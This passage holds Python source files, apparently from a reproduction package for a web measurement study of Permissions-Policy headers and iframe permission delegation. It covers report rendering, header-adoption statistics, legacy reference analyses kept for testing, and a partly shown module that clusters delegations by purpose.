            f"changed · {diff.unchanged_sites:,} unchanged"
            + (" — stores are identical" if diff.is_empty else "") + "</p>",
            "<h2>Aggregate deltas</h2>",
            "<table>",
            f"<tr><th>metric</th><th>{_esc(diff.before.label)}</th>"
            f"<th>{_esc(diff.after.label)}</th><th>Δ</th><th>rel</th></tr>",
        ]
        for delta in diff.deltas:
            body.append(
                "<tr>"
                f'<td class="name">{_esc(delta.metric)}</td>'
                f"<td>{_esc(_fmt_value(delta.metric, delta.before))}</td>"
                f"<td>{_esc(_fmt_value(delta.metric, delta.after))}</td>"
                f"{_delta_cell(delta.metric, delta.absolute)}"
                f"<td>{_esc(_fmt_relative(delta.relative))}</td>"
                "</tr>")
        body.append("</table>")
        if diff.changed:
            shown = diff.changed[:max_site_rows]
            rows = ["<table>",
                    "<tr><th>site</th><th>rank</th><th>changed</th>"
                    "<th>before</th><th>after</th></tr>"]
            for delta in shown:
                rows.append(
                    "<tr>"
                    f'<td class="name">{_esc(delta.site)}</td>'
                    f"<td>{delta.rank:,}</td>"
                    f"<td>{_esc(', '.join(delta.changed_fields))}</td>"
                    f"<td>{_esc(_signature_cell(delta.before))}</td>"
                    f"<td>{_esc(_signature_cell(delta.after))}</td>"
                    "</tr>")
            rows.append("</table>")
            body.extend(_site_rows_html("Changed sites", rows,
                                        len(diff.changed), len(shown)))
        for name, signatures in (("Added sites", diff.added),
                                 ("Removed sites", diff.removed)):
            if not signatures:
                continue
            shown_sigs = signatures[:max_site_rows]
            rows = ["<table>",
                    "<tr><th>site</th><th>rank</th><th>signature</th></tr>"]
            for signature in shown_sigs:
                rows.append(
                    "<tr>"
                    f'<td class="name">{_esc(signature.site)}</td>'
                    f"<td>{signature.rank:,}</td>"
                    f"<td>{_esc(_signature_cell(signature))}</td>"
                    "</tr>")
            rows.append("</table>")
            body.extend(_site_rows_html(name, rows, len(signatures),
                                        len(shown_sigs)))
        return _document(title, body)
