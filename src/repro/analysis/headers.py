"""Header adoption and directive analysis (Section 4.3, Figure 2, Table 9).

Local-scheme documents carry no headers and are excluded from adoption
denominators, exactly as the paper does ("we excluded local document
iframes (e.g., data:) due to the lack of headers").

For Table 9 the paper reports, per permission, the **least restrictive**
directive class a website declares (Disable, Self, Same Origin, Same Site,
Third-party, ``*``) — see
:func:`repro.policy.allowlist.classify_directive`.
"""

from __future__ import annotations

from collections import Counter
from dataclasses import dataclass, field
from typing import Iterable, Union

from repro.analysis.index import DatasetIndex, VisitIndex, as_index
from repro.crawler.records import FrameRecord, SiteVisit
from repro.policy.allowlist import DirectiveClass, classify_directive
from repro.policy.linter import LintReport, LintSeverity
from repro.registry.features import PermissionRegistry


@dataclass
class DirectiveClassCounts:
    """Per-permission Table 9 row."""

    permission: str
    counts: Counter = field(default_factory=Counter)

    @property
    def websites(self) -> int:
        return sum(self.counts.values())

    def share(self, cls: DirectiveClass) -> float:
        total = self.websites
        return self.counts[cls] / total if total else 0.0


@dataclass
class AdoptionFigures:
    """Figure 2 plus the top-level/embedded split."""

    pp_all_docs_share: float
    fp_all_docs_share: float
    both_sites: int
    pp_docs: int
    pp_top_level_docs: int
    pp_top_level_share: float
    pp_embedded_docs: int
    pp_embedded_share: float


class HeaderAnalysis:
    """Aggregates Permissions-Policy / Feature-Policy headers of a crawl."""

    def __init__(self,
                 visits: "Union[DatasetIndex, Iterable[SiteVisit]]",
                 registry: PermissionRegistry | None = None) -> None:
        self._index = as_index(visits, registry)
        self._registry = self._index.registry

        self.non_local_docs = 0
        self.non_local_embedded_docs = 0
        self.pp_top_level_docs = 0
        self.pp_embedded_docs = 0
        self.fp_docs = 0
        self.sites_with_both_headers = 0

        self.syntax_error_frames = 0
        self.syntax_error_top_level_sites = 0
        self.syntax_error_embedded_sites = 0
        self.semantic_issue_top_level_sites = 0
        self.semantic_issue_embedded_sites = 0

        #: permission -> least-restrictive class counts over top-level sites
        self.top_level_directives: dict[str, DirectiveClassCounts] = {}
        self._embedded_class_counts: Counter = Counter()
        self._top_level_class_counts: Counter = Counter()
        self._powerful_top_level_class_counts: Counter = Counter()
        self._header_sizes: list[int] = []
        self.valid_top_level_headers = 0

        # A streaming index feeds _aggregate_visit per visit instead.
        if not self._index.streaming:
            self._run()

    @property
    def _visits(self) -> list:
        return self._index.visits

    @property
    def top_level_documents(self) -> int:
        return self._index.top_level_documents

    @property
    def website_count(self) -> int:
        return self._index.website_count

    # -- aggregation ----------------------------------------------------------------

    def _run(self) -> None:
        for vi in self._index.visit_indexes:
            self._aggregate_visit(vi)

    def _aggregate_visit(self, vi: VisitIndex) -> None:
        visit = vi.visit
        top_syntax_error = False
        embedded_syntax_error = False
        top_semantic = False
        embedded_semantic = False
        has_pp = False
        has_fp = False
        for frame in visit.frames:
            if frame.is_local:
                continue
            # Redirect hops are additional top-level documents sharing the
            # final document's headers; weight the top frame accordingly so
            # document-level adoption shares match the paper's accounting.
            weight = (visit.top_level_document_count
                      if frame.is_top_level else 1)
            self.non_local_docs += weight
            if not frame.is_top_level:
                self.non_local_embedded_docs += 1
            pp_raw = frame.header("permissions-policy")
            fp_raw = frame.header("feature-policy")
            if fp_raw is not None:
                self.fp_docs += weight
                has_fp = True
            if pp_raw is None:
                continue
            has_pp = True
            if frame.is_top_level:
                self.pp_top_level_docs += weight
            else:
                self.pp_embedded_docs += 1
            report = self._index.lint(pp_raw)
            if report.header_dropped:
                self.syntax_error_frames += 1
                if frame.is_top_level:
                    top_syntax_error = True
                else:
                    embedded_syntax_error = True
                continue
            if any(f.severity is LintSeverity.ERROR for f in report.findings):
                if frame.is_top_level:
                    top_semantic = True
                else:
                    embedded_semantic = True
            self._aggregate_directives(frame, report)
        if top_syntax_error:
            self.syntax_error_top_level_sites += 1
        if embedded_syntax_error:
            self.syntax_error_embedded_sites += 1
        if top_semantic:
            self.semantic_issue_top_level_sites += 1
        if embedded_semantic:
            self.semantic_issue_embedded_sites += 1
        if has_pp and has_fp:
            self.sites_with_both_headers += 1

    def _aggregate_directives(self, frame: FrameRecord,
                              report: LintReport) -> None:
        assert report.parsed is not None
        origin = self._index.origin(frame.url)
        if origin is None:
            return
        if frame.is_top_level:
            self.valid_top_level_headers += 1
            self._header_sizes.append(report.parsed.feature_count)
        for feature, allowlist in report.parsed.directives.items():
            cls = classify_directive(allowlist, origin)
            if frame.is_top_level:
                row = self.top_level_directives.setdefault(
                    feature, DirectiveClassCounts(feature))
                row.counts[cls] += 1
                self._top_level_class_counts[cls] += 1
                perm = self._registry.maybe(feature)
                if perm is not None and perm.powerful:
                    self._powerful_top_level_class_counts[cls] += 1
            else:
                self._embedded_class_counts[cls] += 1

    # -- process-parallel summarize support ------------------------------------

    _PARTIAL_INTS = (
        "non_local_docs", "non_local_embedded_docs", "pp_top_level_docs",
        "pp_embedded_docs", "fp_docs", "sites_with_both_headers",
        "syntax_error_frames", "syntax_error_top_level_sites",
        "syntax_error_embedded_sites", "semantic_issue_top_level_sites",
        "semantic_issue_embedded_sites", "valid_top_level_headers")

    def _partial_state(self) -> dict:
        """Picklable additive state for one aggregated rank span."""
        return {
            "ints": {name: getattr(self, name)
                     for name in self._PARTIAL_INTS},
            "top_level_directives": {
                feature: dict(row.counts)
                for feature, row in self.top_level_directives.items()},
            "embedded_class_counts": dict(self._embedded_class_counts),
            "top_level_class_counts": dict(self._top_level_class_counts),
            "powerful_top_level_class_counts": dict(
                self._powerful_top_level_class_counts),
            "header_sizes": list(self._header_sizes),
        }

    def _merge_partial(self, state: dict) -> None:
        """Fold one rank span's partial in (spans in rank order)."""
        for name, value in state["ints"].items():
            setattr(self, name, getattr(self, name) + value)
        for feature, counts in state["top_level_directives"].items():
            row = self.top_level_directives.setdefault(
                feature, DirectiveClassCounts(feature))
            for cls, count in counts.items():
                row.counts[cls] += count
        for target, key in (
                (self._embedded_class_counts, "embedded_class_counts"),
                (self._top_level_class_counts, "top_level_class_counts"),
                (self._powerful_top_level_class_counts,
                 "powerful_top_level_class_counts")):
            for cls, count in state[key].items():
                target[cls] += count
        self._header_sizes.extend(state["header_sizes"])

    # -- adoption (Figure 2) -------------------------------------------------------------

    def adoption(self) -> AdoptionFigures:
        pp_docs = self.pp_top_level_docs + self.pp_embedded_docs
        return AdoptionFigures(
            pp_all_docs_share=(pp_docs / self.non_local_docs
                               if self.non_local_docs else 0.0),
            fp_all_docs_share=(self.fp_docs / self.non_local_docs
                               if self.non_local_docs else 0.0),
            both_sites=self.sites_with_both_headers,
            pp_docs=pp_docs,
            pp_top_level_docs=self.pp_top_level_docs,
            pp_top_level_share=(self.pp_top_level_docs
                                / self.top_level_documents
                                if self.top_level_documents else 0.0),
            pp_embedded_docs=self.pp_embedded_docs,
            pp_embedded_share=(self.pp_embedded_docs
                               / self.non_local_embedded_docs
                               if self.non_local_embedded_docs else 0.0),
        )

    # -- Table 9 -----------------------------------------------------------------------------

    def directive_table(self, top_n: int = 10) -> list[DirectiveClassCounts]:
        rows = sorted(self.top_level_directives.values(),
                      key=lambda row: row.websites, reverse=True)
        return rows[:top_n]

    def top_level_class_shares(self) -> dict[DirectiveClass, float]:
        """Global directive-class shares (83.5 % disable, 9.68 % self, …)."""
        total = sum(self._top_level_class_counts.values())
        if not total:
            return {}
        return {cls: count / total
                for cls, count in self._top_level_class_counts.items()}

    def powerful_disable_or_self_share(self) -> float:
        """For powerful permissions only: disable+self share (97.08 %)."""
        total = sum(self._powerful_top_level_class_counts.values())
        if not total:
            return 0.0
        strict = (self._powerful_top_level_class_counts[DirectiveClass.DISABLE]
                  + self._powerful_top_level_class_counts[DirectiveClass.SELF])
        return strict / total

    def embedded_class_shares(self) -> dict[DirectiveClass, float]:
        """Embedded documents' directive-class shares (Section 4.3.2)."""
        total = sum(self._embedded_class_counts.values())
        if not total:
            return {}
        return {cls: count / total
                for cls, count in self._embedded_class_counts.items()}

    # -- header-size clusters --------------------------------------------------------------------

    def average_permissions_per_header(self) -> float:
        if not self._header_sizes:
            return 0.0
        return sum(self._header_sizes) / len(self._header_sizes)

    def header_size_distribution(self) -> dict[int, float]:
        """Share of valid top-level headers per declared-permission count —
        the paper's 18/1/9 template clusters show up as the three modes."""
        counts = Counter(self._header_sizes)
        total = len(self._header_sizes)
        return {size: count / total for size, count in counts.items()}

    def max_permissions_per_header(self) -> int:
        return max(self._header_sizes, default=0)
