"""Pre-index reference implementations of the core analyses.

This module preserves, verbatim, the multi-pass aggregation code the
analysis pipeline used before :class:`repro.analysis.index.DatasetIndex`
existed: every analysis makes its own full pass over the visits and
re-parses each ``allow`` attribute, policy header and script source it
encounters.  It exists for two reasons:

* **Differential testing** — ``tests/test_analysis_index.py`` asserts that
  :func:`repro.analysis.summary.summarize` (indexed, serial or parallel)
  produces a field-identical :class:`MeasurementSummary` to
  :func:`summarize_legacy` on multiple seeds.
* **Benchmarking** — ``benchmarks/bench_perf_analysis.py`` times this path
  (with parser interning disabled, see
  :func:`repro.policy.memo.parser_caches_disabled`) against the indexed
  path and fails CI if the index is ever slower.

Do not use these classes in new code; they are intentionally frozen.
"""

from __future__ import annotations

from collections import Counter, defaultdict
from typing import Iterable

from repro.analysis.index import (
    ALL_PERMISSIONS_ROW,
    GENERAL_ROW,
    static_matches,
)
from repro.analysis.parties import Party, classify_call_party
from repro.analysis.usage import CheckStats, ContextStats, StaticStats
from repro.analysis.headers import AdoptionFigures, DirectiveClassCounts
from repro.analysis.overpermission import (
    OverPermissionRow,
    WidgetDelegationProfile,
)
from repro.crawler.records import FrameRecord, SiteVisit
from repro.crawler.pool import CrawlDataset
from repro.policy.allow_attr import (
    DelegationDirectiveKind,
    parse_allow_attribute,
)
from repro.policy.allowlist import DirectiveClass, classify_directive
from repro.policy.linter import HeaderLinter, LintReport, LintSeverity
from repro.policy.origin import Origin, OriginParseError
from repro.registry.features import DEFAULT_REGISTRY, PermissionRegistry


class LegacyUsageAnalysis:
    """The pre-index :class:`~repro.analysis.usage.UsageAnalysis`."""

    def __init__(self, visits: Iterable[SiteVisit],
                 registry: PermissionRegistry | None = None) -> None:
        self._registry = registry if registry is not None else DEFAULT_REGISTRY
        self._visits = [v for v in visits if v.success]
        self.top_level_documents = sum(v.top_level_document_count
                                       for v in self._visits)
        self.website_count = len(self._visits)
        self.invocation_stats: dict[str, ContextStats] = {}
        self.check_stats: dict[str, CheckStats] = {}
        self.static_stats: dict[str, StaticStats] = {}

        self.sites_any_invocation = 0
        self.sites_invocation_top = 0
        self.sites_invocation_embedded = 0
        self.sites_any_static = 0
        self.sites_any_functionality = 0
        self.sites_feature_policy_api = 0
        self.total_top_invoking_contexts = 0
        self.total_embedded_invoking_contexts = 0
        self._top_invoking_first = 0
        self._top_invoking_third = 0
        self._embedded_invoking_first = 0
        self._embedded_invoking_third = 0

        for visit in self._visits:
            self._aggregate_visit(visit)

    def _stats_for(self, table: dict, cls, permission: str):
        if permission not in table:
            table[permission] = cls(permission)
        return table[permission]

    def _aggregate_visit(self, visit: SiteVisit) -> None:
        frames = {frame.frame_id: frame for frame in visit.frames}

        invoked: dict[tuple[int, str], set[Party]] = defaultdict(set)
        checked: dict[tuple[int, str], set[Party]] = defaultdict(set)
        any_general_deprecated = False
        for call in visit.calls:
            frame = frames[call.frame_id]
            party = classify_call_party(call, frame)
            if call.uses_deprecated_feature_policy_api:
                any_general_deprecated = True
            if call.is_general:
                invoked[(call.frame_id, GENERAL_ROW)].add(party)
                checked[(call.frame_id, ALL_PERMISSIONS_ROW)].add(party)
            elif call.is_status_check:
                invoked[(call.frame_id, GENERAL_ROW)].add(party)
                for permission in call.permissions:
                    checked[(call.frame_id, permission)].add(party)
            else:
                for permission in call.permissions:
                    invoked[(call.frame_id, permission)].add(party)

        top_invoked = False
        embedded_invoked = False
        seen_frames_top: dict[int, set[Party]] = defaultdict(set)
        seen_frames_embedded: dict[int, set[Party]] = defaultdict(set)
        for (frame_id, permission), parties in invoked.items():
            frame = frames[frame_id]
            stats = self._stats_for(self.invocation_stats, ContextStats,
                                    permission)
            if frame.is_top_level:
                top_invoked = True
                stats.top_contexts += 1
                if Party.FIRST in parties:
                    stats.top_first_party += 1
                if Party.THIRD in parties:
                    stats.top_third_party += 1
                seen_frames_top[frame_id] |= parties
            else:
                embedded_invoked = True
                stats.embedded_contexts += 1
                if Party.FIRST in parties:
                    stats.embedded_first_party += 1
                if Party.THIRD in parties:
                    stats.embedded_third_party += 1
                seen_frames_embedded[frame_id] |= parties
        self.total_top_invoking_contexts += len(seen_frames_top)
        self.total_embedded_invoking_contexts += len(seen_frames_embedded)
        self._top_invoking_first += sum(
            1 for parties in seen_frames_top.values() if Party.FIRST in parties)
        self._top_invoking_third += sum(
            1 for parties in seen_frames_top.values() if Party.THIRD in parties)
        self._embedded_invoking_first += sum(
            1 for parties in seen_frames_embedded.values()
            if Party.FIRST in parties)
        self._embedded_invoking_third += sum(
            1 for parties in seen_frames_embedded.values()
            if Party.THIRD in parties)

        if top_invoked or embedded_invoked:
            self.sites_any_invocation += 1
        if top_invoked:
            self.sites_invocation_top += 1
        if embedded_invoked:
            self.sites_invocation_embedded += 1
        if any_general_deprecated:
            self.sites_feature_policy_api += 1

        site_checked: set[str] = set()
        for (frame_id, permission), _parties in checked.items():
            frame = frames[frame_id]
            stats = self._stats_for(self.check_stats, CheckStats, permission)
            if frame.is_top_level:
                stats.top_contexts += 1
            else:
                stats.embedded_contexts += 1
            site_checked.add(permission)
        for permission in site_checked:
            self.check_stats[permission].websites += 1

        static_by_frame: dict[int, frozenset[str]] = {}
        general_by_frame: dict[int, bool] = {}
        for script in visit.scripts:
            permissions, general = static_matches(script.source,
                                                  self._registry)
            previous = static_by_frame.get(script.frame_id, frozenset())
            static_by_frame[script.frame_id] = previous | permissions
            general_by_frame[script.frame_id] = (
                general_by_frame.get(script.frame_id, False) or general)

        site_static: set[str] = set()
        for frame_id, permissions in static_by_frame.items():
            names = set(permissions)
            if general_by_frame.get(frame_id):
                names.add(GENERAL_ROW)
            for permission in names:
                stats = self._stats_for(self.static_stats, StaticStats,
                                        permission)
                if frames[frame_id].is_top_level:
                    stats.top_contexts += 1
                else:
                    stats.embedded_contexts += 1
            site_static |= names
        for permission in site_static:
            self.static_stats[permission].websites += 1
        if site_static:
            self.sites_any_static += 1
        if site_static or top_invoked or embedded_invoked:
            self.sites_any_functionality += 1

    def _share(self, count: int) -> float:
        return (count / self.top_level_documents
                if self.top_level_documents else 0.0)

    @property
    def share_any_invocation(self) -> float:
        return self._share(self.sites_any_invocation)

    @property
    def share_invocation_top(self) -> float:
        return self._share(self.sites_invocation_top)

    @property
    def share_invocation_embedded(self) -> float:
        return self._share(self.sites_invocation_embedded)

    @property
    def share_any_functionality(self) -> float:
        return self._share(self.sites_any_functionality)

    @property
    def share_any_static(self) -> float:
        return self._share(self.sites_any_static)

    @property
    def top_third_party_share(self) -> float:
        if not self.total_top_invoking_contexts:
            return 0.0
        return self._top_invoking_third / self.total_top_invoking_contexts

    @property
    def embedded_first_party_share(self) -> float:
        if not self.total_embedded_invoking_contexts:
            return 0.0
        return (self._embedded_invoking_first
                / self.total_embedded_invoking_contexts)


class LegacyDelegationAnalysis:
    """The pre-index :class:`~repro.analysis.delegation.DelegationAnalysis`."""

    def __init__(self, visits: Iterable[SiteVisit]) -> None:
        self._visits = [v for v in visits if v.success]
        self.top_level_documents = sum(v.top_level_document_count
                                       for v in self._visits)
        self.directive_kinds: Counter = Counter()
        self.sites_delegating = 0
        self.sites_delegating_external = 0
        for visit in self._visits:
            self._aggregate_visit(visit)

    def _aggregate_visit(self, visit: SiteVisit) -> None:
        top_site = visit.top_frame.site
        delegates_any = False
        delegates_external = False
        for frame in visit.frames:
            if frame.depth != 1:
                continue
            is_external = not frame.is_local and bool(frame.site)
            is_cross_site = is_external and frame.site != top_site
            allow_raw = frame.allow_attribute
            if not allow_raw:
                continue
            attribute = parse_allow_attribute(allow_raw)
            delegated = attribute.delegated_features
            for entry in attribute.entries.values():
                self.directive_kinds[entry.kind] += 1
            if not delegated:
                continue
            delegates_any = True
            if is_cross_site:
                delegates_external = True
        if delegates_any:
            self.sites_delegating += 1
        if delegates_external:
            self.sites_delegating_external += 1

    def _share(self, count: int) -> float:
        return (count / self.top_level_documents
                if self.top_level_documents else 0.0)

    @property
    def share_sites_delegating(self) -> float:
        return self._share(self.sites_delegating)

    @property
    def share_sites_delegating_external(self) -> float:
        return self._share(self.sites_delegating_external)

    def directive_distribution(self) -> dict[DelegationDirectiveKind, float]:
        total = sum(self.directive_kinds.values())
        if not total:
            return {}
        return {kind: count / total
                for kind, count in self.directive_kinds.items()}


class LegacyHeaderAnalysis:
    """The pre-index :class:`~repro.analysis.headers.HeaderAnalysis`."""

    def __init__(self, visits: Iterable[SiteVisit],
                 registry: PermissionRegistry | None = None) -> None:
        self._registry = registry if registry is not None else DEFAULT_REGISTRY
        self._linter = HeaderLinter(self._registry)
        self._visits = [v for v in visits if v.success]
        self.top_level_documents = sum(v.top_level_document_count
                                       for v in self._visits)

        self.non_local_docs = 0
        self.non_local_embedded_docs = 0
        self.pp_top_level_docs = 0
        self.pp_embedded_docs = 0
        self.fp_docs = 0
        self.sites_with_both_headers = 0

        self.syntax_error_top_level_sites = 0
        self.semantic_issue_top_level_sites = 0

        self._top_level_class_counts: Counter = Counter()

        for visit in self._visits:
            self._aggregate_visit(visit)

    def _aggregate_visit(self, visit: SiteVisit) -> None:
        top_syntax_error = False
        top_semantic = False
        has_pp = False
        has_fp = False
        for frame in visit.frames:
            if frame.is_local:
                continue
            weight = (visit.top_level_document_count
                      if frame.is_top_level else 1)
            self.non_local_docs += weight
            if not frame.is_top_level:
                self.non_local_embedded_docs += 1
            pp_raw = frame.header("permissions-policy")
            fp_raw = frame.header("feature-policy")
            if fp_raw is not None:
                self.fp_docs += weight
                has_fp = True
            if pp_raw is None:
                continue
            has_pp = True
            if frame.is_top_level:
                self.pp_top_level_docs += weight
            else:
                self.pp_embedded_docs += 1
            report = self._linter.lint(pp_raw)
            if report.header_dropped:
                if frame.is_top_level:
                    top_syntax_error = True
                continue
            if any(f.severity is LintSeverity.ERROR for f in report.findings):
                if frame.is_top_level:
                    top_semantic = True
            self._aggregate_directives(frame, report)
        if top_syntax_error:
            self.syntax_error_top_level_sites += 1
        if top_semantic:
            self.semantic_issue_top_level_sites += 1
        if has_pp and has_fp:
            self.sites_with_both_headers += 1

    def _aggregate_directives(self, frame: FrameRecord,
                              report: LintReport) -> None:
        assert report.parsed is not None
        try:
            origin = Origin.parse(frame.url)
        except OriginParseError:
            return
        if not frame.is_top_level:
            return
        for feature, allowlist in report.parsed.directives.items():
            cls = classify_directive(allowlist, origin)
            self._top_level_class_counts[cls] += 1

    def adoption(self) -> AdoptionFigures:
        pp_docs = self.pp_top_level_docs + self.pp_embedded_docs
        return AdoptionFigures(
            pp_all_docs_share=(pp_docs / self.non_local_docs
                               if self.non_local_docs else 0.0),
            fp_all_docs_share=(self.fp_docs / self.non_local_docs
                               if self.non_local_docs else 0.0),
            both_sites=self.sites_with_both_headers,
            pp_docs=pp_docs,
            pp_top_level_docs=self.pp_top_level_docs,
            pp_top_level_share=(self.pp_top_level_docs
                                / self.top_level_documents
                                if self.top_level_documents else 0.0),
            pp_embedded_docs=self.pp_embedded_docs,
            pp_embedded_share=(self.pp_embedded_docs
                               / self.non_local_embedded_docs
                               if self.non_local_embedded_docs else 0.0),
        )

    def top_level_class_shares(self) -> dict[DirectiveClass, float]:
        total = sum(self._top_level_class_counts.values())
        if not total:
            return {}
        return {cls: count / total
                for cls, count in self._top_level_class_counts.items()}


class LegacyOverPermissionAnalysis:
    """The pre-index
    :class:`~repro.analysis.overpermission.OverPermissionAnalysis`."""

    def __init__(self, visits: Iterable[SiteVisit], *,
                 prevalence_threshold: float = 0.05,
                 registry: PermissionRegistry | None = None) -> None:
        self._registry = registry if registry is not None else DEFAULT_REGISTRY
        self.prevalence_threshold = prevalence_threshold
        self._visits = [v for v in visits if v.success]

        self._occurrences: Counter = Counter()
        self._delegated_occurrences: Counter = Counter()
        self._delegation_counts: dict[str, Counter] = defaultdict(Counter)
        self._activity: dict[str, set[str]] = defaultdict(set)
        self._delegating_websites: dict[tuple[str, str], set[int]] = \
            defaultdict(set)

        for visit in self._visits:
            self._aggregate_visit(visit)

    def _aggregate_visit(self, visit: SiteVisit) -> None:
        top_site = visit.top_frame.site
        frames = {frame.frame_id: frame for frame in visit.frames}

        for frame in visit.frames:
            if frame.is_top_level or frame.is_local:
                continue
            if not frame.site or frame.site == top_site:
                continue
            self._occurrences[frame.site] += 1
            allow_raw = frame.allow_attribute
            delegated: tuple[str, ...] = ()
            if allow_raw:
                delegated = parse_allow_attribute(allow_raw).delegated_features
            if delegated:
                self._delegated_occurrences[frame.site] += 1
            for permission in delegated:
                self._delegation_counts[frame.site][permission] += 1
                self._delegating_websites[(frame.site, permission)].add(
                    visit.rank)

        for call in visit.calls:
            frame = frames[call.frame_id]
            if frame.is_top_level or not frame.site or frame.site == top_site:
                continue
            for permission in call.permissions:
                self._activity[frame.site].add(permission)
        for script in visit.scripts:
            frame = frames[script.frame_id]
            if frame.is_top_level or not frame.site or frame.site == top_site:
                continue
            permissions, _general = static_matches(script.source,
                                                   self._registry)
            self._activity[frame.site] |= permissions

    def profile_for(self, site: str) -> WidgetDelegationProfile:
        return WidgetDelegationProfile(
            site=site,
            occurrences=self._occurrences.get(site, 0),
            occurrences_with_delegation=self._delegated_occurrences.get(site, 0),
            delegation_counts=dict(self._delegation_counts.get(site, {})),
            observed_activity=frozenset(self._activity.get(site, set())),
        )

    def _observable(self, permission: str) -> bool:
        perm = self._registry.maybe(permission)
        return perm is not None and perm.instrumented

    def unused_delegations(self) -> list[OverPermissionRow]:
        rows: list[OverPermissionRow] = []
        for site in self._delegation_counts:
            profile = self.profile_for(site)
            prevalent = profile.prevalent_delegations(
                self.prevalence_threshold)
            unused = tuple(permission for permission in prevalent
                           if self._observable(permission)
                           and permission not in profile.observed_activity)
            if not unused:
                continue
            affected: set[int] = set()
            for permission in unused:
                affected |= self._delegating_websites[(site, permission)]
            rows.append(OverPermissionRow(
                site=site, unused_permissions=unused,
                affected_websites=len(affected)))
        rows.sort(key=lambda row: row.affected_websites, reverse=True)
        return rows

    def total_affected_websites(self) -> int:
        affected: set[int] = set()
        for row in self.unused_delegations():
            for permission in row.unused_permissions:
                affected |= self._delegating_websites[(row.site, permission)]
        return len(affected)


def summarize_legacy(dataset: CrawlDataset):
    """Assemble a :class:`~repro.analysis.summary.MeasurementSummary` the
    pre-index way: one independent full pass per analysis."""
    from repro.analysis.summary import MeasurementSummary

    visits = dataset.successful()
    usage = LegacyUsageAnalysis(visits)
    delegation = LegacyDelegationAnalysis(visits)
    headers = LegacyHeaderAnalysis(visits)
    overpermission = LegacyOverPermissionAnalysis(visits)
    adoption = headers.adoption()
    class_shares = headers.top_level_class_shares()
    directive_dist = delegation.directive_distribution()
    return MeasurementSummary(
        attempted_sites=dataset.attempted,
        successful_sites=dataset.successful_count,
        failure_summary=dataset.failure_summary(),
        top_level_documents=dataset.top_level_document_count,
        embedded_documents=dataset.embedded_document_count,
        sites_with_iframes=dataset.sites_with_iframes(),
        local_embedded_share=dataset.local_embedded_share(),
        average_seconds_per_site=dataset.average_duration_seconds(),
        share_any_invocation=usage.share_any_invocation,
        share_invocation_top=usage.share_invocation_top,
        share_invocation_embedded=usage.share_invocation_embedded,
        share_any_functionality=usage.share_any_functionality,
        share_any_static=usage.share_any_static,
        top_third_party_share=usage.top_third_party_share,
        embedded_first_party_share=usage.embedded_first_party_share,
        share_sites_delegating=delegation.share_sites_delegating,
        share_sites_delegating_external=(
            delegation.share_sites_delegating_external),
        directive_share_default_src=directive_dist.get(
            DelegationDirectiveKind.DEFAULT_SRC, 0.0),
        directive_share_star=directive_dist.get(
            DelegationDirectiveKind.STAR, 0.0),
        pp_header_top_level_share=adoption.pp_top_level_share,
        pp_header_all_docs_share=adoption.pp_all_docs_share,
        fp_header_all_docs_share=adoption.fp_all_docs_share,
        pp_header_embedded_share=adoption.pp_embedded_share,
        header_class_disable_share=class_shares.get(
            DirectiveClass.DISABLE, 0.0),
        header_class_self_share=class_shares.get(DirectiveClass.SELF, 0.0),
        header_class_star_share=class_shares.get(DirectiveClass.STAR, 0.0),
        syntax_error_top_level_sites=headers.syntax_error_top_level_sites,
        semantic_issue_top_level_sites=headers.semantic_issue_top_level_sites,
        overpermission_affected_websites=(
            overpermission.total_affected_websites()),
    )
