"""Purpose clustering of permission delegations (paper Section 4.2.1).

The paper observes "clear grouping patterns" in what embedded documents get
delegated and names six purposes:

* **Ads-Related** — attribution-reporting, join-ad-interest-group,
  run-ad-auction (Google Syndication, DoubleClick);
* **Social Media and Multimedia** — autoplay, clipboard-write, fullscreen,
  encrypted-media, picture-in-picture, sensors (YouTube, Facebook);
* **Customer Support** — camera, microphone, display-capture (LiveChat,
  LaDesk);
* **Payment-Related** — payment (Stripe, RazorPay);
* **Session-Related** — identity-credentials-get, otp-credentials;
* **Others** — cross-origin-isolated, private-state-token-issuance, ….

This module reconstructs those clusters from observed delegations alone:
each embedded site's *delegation signature* (the multiset of features it is
delegated across the crawl) is scored against the purpose definitions and
assigned to the best match — including the paper's "multi-purpose"
catch-all for template widgets (WixApps-style) whose signature spans
several purposes.
"""

from __future__ import annotations

from collections import Counter
from dataclasses import dataclass
from enum import Enum
from typing import Iterable, Union

from repro.analysis.delegation import DelegationAnalysis
from repro.analysis.index import DatasetIndex, as_index
from repro.crawler.records import SiteVisit


class DelegationPurpose(str, Enum):
    ADS = "ads-related"
    MULTIMEDIA = "social-media-and-multimedia"
    CUSTOMER_SUPPORT = "customer-support"
    PAYMENT = "payment-related"
    SESSION = "session-related"
    MULTI_PURPOSE = "multi-purpose"
    OTHER = "others"


#: Feature signatures per purpose (from the paper's own grouping).
_PURPOSE_FEATURES: dict[DelegationPurpose, frozenset[str]] = {
    DelegationPurpose.ADS: frozenset({
        "attribution-reporting", "join-ad-interest-group", "run-ad-auction",
        "browsing-topics", "interest-cohort"}),
    DelegationPurpose.MULTIMEDIA: frozenset({
        "autoplay", "clipboard-write", "fullscreen", "encrypted-media",
        "picture-in-picture", "accelerometer", "gyroscope", "magnetometer",
        "web-share"}),
    DelegationPurpose.CUSTOMER_SUPPORT: frozenset({
        "camera", "microphone", "display-capture", "clipboard-read"}),
    DelegationPurpose.PAYMENT: frozenset({"payment"}),
    DelegationPurpose.SESSION: frozenset({
        "identity-credentials-get", "otp-credentials",
        "publickey-credentials-get"}),
}


def classify_delegation_signature(features: Iterable[str]
                                  ) -> DelegationPurpose:
    """Assign one delegation signature to a purpose.

    A signature matching several purposes substantially (≥ 2 features in
    ≥ 2 purposes, or purposes from disjoint worlds like geolocation+camera
    +autoplay) is the paper's template-widget case: ``MULTI_PURPOSE``.
    """
    feature_set = set(features)
    if not feature_set:
        return DelegationPurpose.OTHER
    scores: dict[DelegationPurpose, int] = {}
    for purpose, signature in _PURPOSE_FEATURES.items():
        overlap = len(feature_set & signature)
        if overlap:
            scores[purpose] = overlap
    if not scores:
        return DelegationPurpose.OTHER
    covered = set().union(*(sig for p, sig in _PURPOSE_FEATURES.items()
                            if p in scores))
    uncategorized = feature_set - covered
    strong = [purpose for purpose, score in scores.items()
              if score >= min(2, len(_PURPOSE_FEATURES[purpose]))]
    if len(strong) >= 2 or (len(scores) >= 2 and uncategorized):
        # Exception: customer-support widgets routinely add an autoplay /
        # fullscreen chrome to their camera+microphone core — keep them in
        # their home category like the paper does for LiveChat.
        support = _PURPOSE_FEATURES[DelegationPurpose.CUSTOMER_SUPPORT]
        if (scores.get(DelegationPurpose.CUSTOMER_SUPPORT, 0) >= 2
                and feature_set - support
